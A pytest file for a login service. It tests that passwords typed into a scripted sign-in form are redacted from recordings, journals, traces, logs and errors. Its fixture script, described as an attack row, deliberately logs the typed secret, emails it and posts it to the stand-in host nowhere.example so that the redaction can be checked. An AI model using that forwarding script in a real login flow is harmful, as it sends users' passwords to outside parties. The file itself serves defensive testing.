"""Secrets that people type into a script's form: the script gets them, and nothing keeps them."""

import json
from typing import Any

import msgspec
import pytest

from identity.administration.context import Administration
from identity.authn.login_record import LoginRecord, open_record
from identity.authn.login_recording import LoginRecordings, Recording
from identity.authn.login_trace import LoginTraces
from identity.storage.login_flows import find_login_flow
from identity.storage.recorded_logins import list_recorded_logins
from tests.support.browser import Page
from tests.support.builders import Client, Site, response_parameters
from tests.support.in_process import TimedSite
from tests.support.key_manager import administrator, call
from tests.support.script_admin import script_path
from tests.support.scripts import begun, denial, scripted, with_password

pytestmark = [pytest.mark.any_engine, pytest.mark.long]

TYPED = 'jO"h\\nny-5'
FORM = "{ title: 'New', inputs: [{ id: 'newPassword', label: 'New one' }, { id: 'why' }] }"
ASKING = f"""
var onLoginRequest = function (context) {{
  executeStep(1, {{ onSuccess: function (context) {{
    prompt('genericForm', {FORM}, {{ onSuccess: function (c) {{
      var typed = c.request.params.newPassword[0];
      Log.info('typed ' + typed);
      setCookie(c.response, 'length', '' + typed.length, {{}});
      sendEmail(c.currentKnownSubject, 'none', {{ typed: typed }});
      httpPost('https://nowhere.example/check', {{ typed: typed }}, {{ onFail: function () {{}} }});
      getUniqueUserWithClaimValues({{ 'http://wso2.org/claims/nickname': typed }}, c);
      if (c.request.params.why[0] === 'stop') fail({{ errorCode: 'stopped', errorMessage: 'not ' + typed }});
      if (c.request.params.why[0] === 'page') sendError(null, {{ statusMsg: typed, typed: typed }});
      if (c.request.params.why[0] === 'throw') throw new Error('bad ' + typed);
    }} }});
  }} }});
}};
"""


def asked(site: Site, client: Client) -> Page:
    return with_password(begun(site, client), site.jane)


def kept(site: Site, flow: str = "") -> dict[str, Any]:
    """Everything that the last sign-in left, opened; the flow by its id."""

    async def read(administration: Administration) -> dict[str, Any]:
        now, database, sealer = administration.clock.now(), administration.database, administration.sealer
        rows = await list_recorded_logins(database, site.tenant.id, since=0, application=None, after="", count=10)
        recording = await LoginRecordings(database, sealer).open(rows[-1])
        assert recording is not None
        row = await find_login_flow(database, site.tenant.id, flow or recording.flow, now)
        assert row is not None
        record = open_record(sealer, row.tenant, row.id, row.record)
        trace = await LoginTraces(sealer).find(database, site.tenant.id, recording.trace, now)
        return {"recording": recording, "flow": record, "trace": trace}

    found: dict[str, Any] = site.administer(read)
    return found


def everything(found: dict[str, Any]) -> str:
    """As one text without any escaping, however deep JSON lies within JSON."""
    text = msgspec.json.encode(found).decode()
    return text.replace("\\", "")


@pytest.mark.parametrize("why", ["work", "stop", "page", "throw"])
def test_a_secret_is_in_nothing_that_is_kept(site: Site, why: str) -> None:
    """Attack row 28: a script may hand a secret on to a mail, a call and the log; we keep it in none of them."""
    client = scripted(site, ASKING)
    asked(site, client).submit("prompt-submit", newPassword=TYPED, why=why)
    found = kept(site)
    assert TYPED.replace("\\", "") not in everything(found)
    recording: Recording = found["recording"]
    flow: LoginRecord = found["flow"]
    assert flow.script is not None
    for journal in (recording.journal, flow.script.journal):
        answered = next(answer for answer in journal if answer.key.startswith("prompt:"))
        assert answered.value["request"]["params"] == {"newPassword": ["(withheld)"], "why": [why]}
        sent = [answer.key for answer in journal if answer.key.startswith("http:")]
        assert ['"typed": "(withheld)"' in key for key in sent] == ([True] if why == "work" else [])
    assert found["trace"]["log"] == ["typed (withheld)"]
    assert (flow.verdict, flow.denial is None) == (("done", True) if why == "work" else ("denied", False))


def test_an_error_about_a_secret_is_logged_without_it(timed: TimedSite, capfd: pytest.CaptureFixture[str]) -> None:
    asked(timed, scripted(timed, ASKING)).submit("prompt-submit", newPassword=TYPED, why="throw")
    assert denial(timed).startswith("script_error:Error: bad (withheld)")
    said = capfd.readouterr()
    assert "ny-5" not in said.out + said.err


@pytest.mark.parametrize("field", ["{ id: 'word', type: 'password' }", "{ id: 'word_secret' }", "'my.pin'"])
def test_a_secret_field_is_a_password_field(site: Site, field: str) -> None:
    source = (
        f"async function onLogin() {{ await step(1); await ask('genericForm', {{ inputs: [{field}, 'spinner'] }}); }}"
    )
    page = asked(site, scripted(site, source))
    types = {each.attributes["name"]: each.attributes["type"] for each in page.document.all("input")}
    assert types.pop("spinner") == "text"
    assert [types[name] for name in types if name != "csrf_token"] == ["password"]


def test_the_script_reads_it_in_every_run_of_the_login(site: Site) -> None:
    """It stays in the journal of a login that runs, also over steps that follow."""
    source = """
    async function onLogin(context) {
      await step(1);
      const form = await ask('genericForm', { inputs: [{ id: 'newPassword' }] });
      await ask('genericForm', { inputs: ['again'] });
      if (form.params.newPassword[0] !== 'Sesame') deny({ errorCode: 'lost' });
    }"""
    page = asked(site, scripted(site, source)).submit("prompt-submit", newPassword="Sesame")
    assert "code" in response_parameters(page.submit("prompt-submit", again="yes"))


def test_a_short_secret_spoils_nothing_else(site: Site) -> None:
    source = ASKING.replace("newPassword", "pin")
    page = asked(site, scripted(site, source)).submit("prompt-submit", pin="1", why="1")
    assert "code" in response_parameters(page)
    recording: Recording = kept(site)["recording"]
    answered = next(answer for answer in recording.journal if answer.key.startswith("prompt:"))
    assert answered.value["request"]["params"] == {"pin": ["(withheld)"], "why": ["1"]}
    assert any(json.loads(a.key.removeprefix("step:"))["step"] == 1 for a in recording.journal if "step:" in a.key)


def test_a_backtest_does_not_guess_a_secret(site: Site) -> None:
    client = scripted(site, ASKING)
    asked(site, client).submit("prompt-submit", newPassword=TYPED, why="work")
    root = administrator(site)

    def tried(script: str) -> dict[str, Any]:
        answer = call(site, root, "POST", f"{script_path(client)}/backtest", json={"script": script})
        found: dict[str, Any] = answer.json()
        return found

    unknown = tried(ASKING)
    assert unknown["counts"]["unknown"] == 1
    assert unknown["changes"][0]["detail"] == "secrets typed into prompt genericForm are not kept"
    plain = tried("var onLoginRequest = function (c) { executeStep(1); };")
    assert plain["counts"]["same"] == 1
